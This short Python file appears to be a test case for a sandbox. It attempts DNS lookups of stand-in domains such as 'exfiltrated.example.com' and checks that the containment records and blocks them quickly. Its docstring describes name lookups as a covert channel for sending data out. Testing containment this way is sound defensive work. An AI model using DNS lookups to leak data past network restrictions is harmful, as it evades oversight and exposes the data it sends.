"""Looks names up, which is a way to send data even where nothing else gets through.

Would gain: a channel to whoever owns the domain, through the host's resolver.
"""
import socket

from inside import attempt, main


def attack():
    attempt("getaddrinfo", socket.getaddrinfo, "exfiltrated.example.com", 80)
    attempt("gethostbyname", socket.gethostbyname, "other.example.org")


def host(case):
    run = yield {}
    names = {v["detail"].get("host") for v in run.violations}
    if case.wall == "process":
        assert "exfiltrated.example.com" in names, run
    assert run.seconds < 10, "a lookup has to fail at once"


if __name__ == "__main__":
    main(attack)
